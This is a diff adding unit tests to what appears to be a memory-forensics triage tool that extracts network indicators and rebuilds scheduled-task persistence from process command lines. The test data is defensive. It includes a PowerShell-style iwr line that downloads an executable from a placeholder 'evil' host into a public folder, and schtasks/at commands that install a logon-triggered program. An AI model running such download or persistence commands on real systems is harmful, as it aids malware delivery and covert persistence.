@@ -110,3 +110,33 @@ def test_win7_taskeng_child_is_linked_by_exec_action(win7):
     }
     assert win7.processes[2412].command_line == r"taskeng.exe {7A3F9C21-5B4E-4D8A-9E6F-1C2B3D4E5F60} S-1-5-18:NT AUTHORITY\System:Service:"
     assert win7.processes[2520].ancestry == ["wininit.exe (392)", "services.exe (488)", "svchost.exe (900)", "taskeng.exe (2412)"]
+
+
+def test_network_indicators_of_decoded_text():
+    from triage.collect.memory import network_indicators
+
+    text = ("$u='https://cdn.evil-updates.com/p.ps1?x=1'; iwr http://198.51.100.7:8080/a -OutFile C:\\Users\\Public\\a.exe; "
+            "ping 10.0.0.300; Write-Host version 1.2.3.4.5")
+    assert network_indicators(text) == {"urls": ["http://198.51.100.7:8080/a", "https://cdn.evil-updates.com/p.ps1?x=1"],
+                                        "ips": ["198.51.100.7"], "domains": ["cdn.evil-updates.com"]}
+
+
+def test_cmd_wrapping_schtasks_and_the_schtasks_it_started_give_one_rebuilt_task():
+    from triage.collect.memory import task_creating_definitions
+
+    def proc(pid, ppid, name, create, cmdline, seen_by=("pslist",)):
+        return {"pid": pid, "ppid": ppid, "name": name, "create": create, "exit": None, "offset": 0x1000 + pid,
+                "offset_kind": "virtual", "seen_by": set(seen_by), "cmdline": cmdline, "sid": "S-1-5-18"}
+
+    procs = [
+        proc(900, 800, "cmd.exe", 133600000000000000, 'cmd.exe /c "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon"'),
+        proc(904, 900, "schtasks.exe", 133600000000000010, "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon",
+             ("psscan",)),
+        proc(908, 800, "at.exe", 133600000000000020, "at 23:00 /every:M,T C:\\ProgramData\\nightly.bat"),
+        proc(912, 800, "notepad.exe", 133600000000000030, "notepad schtasks /create /tn Nope /tr x.exe"),
+        proc(916, 800, "schtasks.exe", 133600000000000040, "schtasks /query /tn Updater"),
+    ]
+    rebuilt = task_creating_definitions(procs, "mem.raw", host="PC1")
+    assert [(d.task, d.details["creating_pid"], d.details["tool"], d.host) for d in rebuilt] == [
+        ("\\Updater", 900, "schtasks", "PC1"), ("\\At job of at.exe pid 908", 908, "at", "PC1")]
+    assert rebuilt[0].actions[0].command == "C:\\ProgramData\\u.exe" and rebuilt[0].triggers[0].kind == "logon"
